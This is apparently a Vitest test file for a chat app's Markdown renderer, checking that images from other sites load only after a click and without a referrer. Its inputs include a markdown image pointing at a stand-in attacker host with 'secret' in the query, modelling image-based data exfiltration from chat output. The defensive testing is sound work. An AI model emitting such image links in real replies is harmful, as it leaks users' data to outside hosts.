// @vitest-environment jsdom
import { cleanup, fireEvent, render, screen } from "@testing-library/react";
import { afterEach, describe, expect, it } from "vitest";
import { foreignHost } from "./ExternalImage";
import { Markdown } from "./Markdown";

afterEach(cleanup);

describe("images in Markdown", () => {
  it("tells this server's and inline images from other sites' ones", () => {
    const here = "https://antler.example/chat/1";
    expect(foreignHost("/api/threads/t/artifacts/a.png", here)).toBeNull();
    expect(foreignHost("data:image/png;base64,AAAA", here)).toBeNull();
    expect(foreignHost("https://evil.example/?q=secret", here)).toBe("evil.example");
    expect(foreignHost("//evil.example/x.png", here)).toBe("evil.example");
  });

  it("fetches another site's image only when asked", () => {
    const { container } = render(<Markdown text={"![chart](https://evil.example/?q=secret)"} />);
    expect(container.querySelector("img")).toBeNull();
    const button = screen.getByTestId("external-image");
    expect(button.textContent).toContain("evil.example");
    fireEvent.click(button);
    const img = container.querySelector("img");
    expect(img?.getAttribute("src")).toBe("https://evil.example/?q=secret");
    expect(img?.getAttribute("referrerpolicy")).toBe("no-referrer");
  });

  it("shows this server's images at once", () => {
    const { container } = render(<Markdown text={"![plot](/api/threads/t/artifacts/plot.png)"} />);
    expect(container.querySelector("img")?.getAttribute("src")).toBe("/api/threads/t/artifacts/plot.png");
  });
});
